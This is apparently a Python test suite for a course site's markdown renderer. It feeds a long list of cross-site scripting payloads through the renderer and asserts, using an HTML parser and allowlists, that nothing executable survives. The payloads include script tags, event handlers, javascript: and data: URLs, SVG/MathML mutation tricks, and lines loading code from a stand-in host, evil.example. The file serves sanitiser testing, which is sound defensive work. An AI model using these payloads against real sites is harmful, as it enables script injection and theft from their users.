"""Script injection: whatever an author writes, no output runs anything. Judged by a parser, not by searching text."""

from html.parser import HTMLParser

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from coursewell.courses.markdown import render

PAYLOADS = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<script/src=data:,alert(1)>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img src=x onerror=alert(1)//",
    "<IMG SRC=x ONERROR=&#97;lert(1)>",
    "<img src=`x`onerror=alert(1)>",
    '<img """><script>alert(1)</script>">',
    "<img/src=x/onerror=alert(1)>",
    "<img src=javascript:alert(1)>",
    "<img src=x style=background:url(javascript:alert(1))>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><a xlink:href=javascript:alert(1)><text y=20>x</text></a></svg>",
    "<svg><foreignObject><iframe srcdoc='<script>alert(1)</script>'></foreignObject></svg>",
    '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
    "<math><annotation-xml encoding=text/html><img src=x onerror=alert(1)></annotation-xml></math>",
    "<math href=javascript:alert(1)>x</math>",
    "<math><mi xlink:href='javascript:alert(1)'>x</mi></math>",
    '<math><mi//xlink:href="data:x,<script>alert(4)</script>">',
    "<math><maction actiontype=statusline xlink:href=javascript:alert(1)>x</maction></math>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=javascript:alert(1)>",
    "<applet code=x></applet>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content=0;url=javascript:alert(1)>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import '//evil.example/x.css';</style>",
    "<p style=color:red onclick=alert(1)>x</p>",
    "<div style='position:fixed;inset:0'>x</div>",
    "<form action=javascript:alert(1)><button>x</button></form>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<input autofocus onfocus=alert(1)>",
    "<input type=image src=x onerror=alert(1)>",
    "<textarea autofocus onfocus=alert(1)></textarea>",
    "<select autofocus onfocus=alert(1)></select>",
    "<video><source onerror=alert(1)></video>",
    "<video poster=javascript:alert(1)></video>",
    "<audio src=x onerror=alert(1)></audio>",
    "<details open ontoggle=alert(1)><summary>x</summary></details>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<body onload=alert(1)>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href=' &#14; javascript:alert(1)'>x</a>",
    "<a href='java&#x09;script:alert(1)'>x</a>",
    "<a href='java&Tab;script&colon;alert(1)'>x</a>",
    "<a href=JaVaScRiPt:alert(1)>x</a>",
    "<a href=vbscript:msgbox(1)>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href='data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=='>x</a>",
    "<a href=x onmouseover=alert(1)>x</a>",
    "<a href=x ping=//evil.example/ target=_blank>x</a>",
    "[x](javascript:alert(1))",
    "[x](<java\nscript:alert(1)>)",
    "[x](JAVASCRIPT&colon;alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](vbscript:alert(1))",
    "![x](javascript:alert(1))",
    "![x](data:image/svg+xml,<svg/onload=alert(1)>)",
    '![x](y "onerror=alert(1) \\" onerror=alert(1)")',
    '![x](y){alt=\'" onerror="alert(1)\' onerror=alert(1)}',
    '![" onerror=alert(1) "](y" onerror=alert(1))',
    "<javascript:alert(1)>",
    '<https://example.com/"onmouseover=alert(1)>',
    "[a]: javascript:alert(1)\n\n[a]",
    "[a]: y '\" onclick=alert(1) \"'\n\n[a]",
    r"$\text{<img src=x onerror=alert(1)>}$",
    r"$$\text{</math><script>alert(1)</script>}$$",
    r"$\href{javascript:alert(1)}{x}$",
    r"$\text{&lt;script&gt;alert(1)&lt;/script&gt;}$",
    r"$\color{red;background:url(javascript:alert(1))}{x}$",
    r"$\style{color:red}{x}$ $\class{box}{x}$ $\unicode{60}$",
    "```<script>alert(1)</script>\nx\n```",
    "```python onclick=alert(1)\n<script>alert(1)</script>\n```",
    "```{.python onclick=alert(1)}\n</code></pre><script>alert(1)</script>\n```",
    "::: <script>alert(1)</script>\nx\n:::",
    ':::note "><img src=x onerror=alert(1)>\nx\n:::',
    "::: {.note title='<script>alert(1)</script>' onclick=alert(1)}\nx\n:::",
    "# <img src=x onerror=alert(1)>",
    '# x" onclick="alert(1)',
    "[^1]\n\n[^1]: <script>alert(1)</script>",
    "^[<img src=x onerror=alert(1)>]",
    '[^"><script>alert(1)</script>]\n\n[^"><script>alert(1)</script>]: x',
    "| <script>alert(1)</script> |\n|---|\n| <img src=x onerror=alert(1)> |",
    "<!--><script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml-stylesheet href=javascript:alert(1)?>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<title><img src=x onerror=alert(1)></title>",
    "<xmp><script>alert(1)</script></xmp>",
    "<plaintext><script>alert(1)</script>",
    "<template><script>alert(1)</script></template>",
    "<table background=javascript:alert(1)><td background=javascript:alert(1)>x</table>",
    "<p id=location name=location>x</p><img name=cookie>",
    "<x onclick=alert(1)>y</x>",
    "<p lang='\" onclick=\"alert(1)'>x</p>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "\\<script>alert(1)\\</script>",
    "\x00<script\x00>alert(1)</script>",
    "<scr\x00ipt>alert(1)</scr\x00ipt>",
    "＜script＞alert(1)＜/script＞",
]  # fmt: skip

#: No other element may ever come out of a text.
NAMES = """a abbr b bdi bdo blockquote br caption cite code col colgroup data dd del details dfn div dl dt em figcaption
    figure h1 h2 h3 h4 h5 h6 hr i img input ins kbd li mark ol p pre q rp rt ruby s samp section small span strong sub
    summary sup table tbody td tfoot th thead time tr u ul var wbr"""
ALLOWED = set(NAMES.split())
ATTRIBUTES = {"href", "src", "alt", "title", "class", "id", "rel", "lang", "dir", "aria-label", "open", "start"} | {
    "width", "height", "loading", "decoding", "type", "disabled", "checked", "colspan", "rowspan", "scope", "headers",
    "span", "reversed", "value", "datetime", "abbr",
}  # fmt: skip


class Judge(HTMLParser):
    """Fails on whatever could run, restyle the page, or ask a third party."""

    def handle_starttag(self, tag, attrs):
        is_maths = tag == "math" or tag in {"menclose", "mfrac", "mmultiscripts", "mprescripts"} or tag[0] == "m"
        assert tag in ALLOWED or is_maths, tag
        for name, value in attrs:
            assert not name.startswith("on"), (tag, name)
            assert name != "style", tag
            assert is_maths or name in ATTRIBUTES, (tag, name)
            if name == "href":
                assert (value or "").startswith(("http://", "https://", "mailto:", "#", "/")), (tag, value)
            if name == "src":
                assert (value or "").startswith("/courses/"), (tag, value)
            if is_maths:
                assert ":" not in (value or ""), (tag, name, value)

    def handle_comment(self, data):
        raise AssertionError("a comment came out")

    def handle_decl(self, decl):
        raise AssertionError("a declaration came out")

    def handle_pi(self, data):
        raise AssertionError("a processing instruction came out")


def judge(text):
    html = render(text, resolve=lambda path, kind: f"/courses/x/files/{len(path)}").html
    Judge(convert_charrefs=True).feed(str(html))
    return html


def test_there_are_enough_payloads():
    assert len(set(PAYLOADS)) >= 60


@pytest.mark.parametrize("payload", PAYLOADS)
def test_nothing_runs(payload):
    judge(payload)


@pytest.mark.parametrize(
    "frame", ["> {}", "- {}", "## {}", "| {} |\n|--|\n| {} |", ":::note {}\n{}\n:::", "*{}*", "[{}](x)"]
)
def test_nothing_runs_wherever_it_stands(frame):
    for payload in PAYLOADS:
        judge(frame.replace("{}", payload.replace("\n", " ")))


def test_payloads_in_a_row_do_not_help_each_other():
    judge("\n\n".join(PAYLOADS))
    judge("".join(PAYLOADS))


PIECES = [
    "<", ">", "</", "/>", '"', "'", "`", "=", " ", "\n", "&", ";", "script", "img", "svg", "math", "mtext", "style",
    "onerror=alert(1)", "src=x", "href=javascript:alert(1)", "a", "p", "table", "td", "$", "\\text{", "}", "[", "]",
    "(", ")", "!", ":::", "note", "```", "#", "<!--", "-->", "<![CDATA[", "\x00", "title=", "details", "mglyph",
    "annotation-xml", "noscript", "select", "template", "form", "{alt='", "|", "---", "^[", "*", "_",
]  # fmt: skip


@settings(max_examples=150, deadline=None)
@given(st.lists(st.sampled_from(PIECES) | st.text(max_size=5), max_size=40).map("".join))
def test_nothing_runs_in_whatever_can_be_composed(text):
    judge(text)
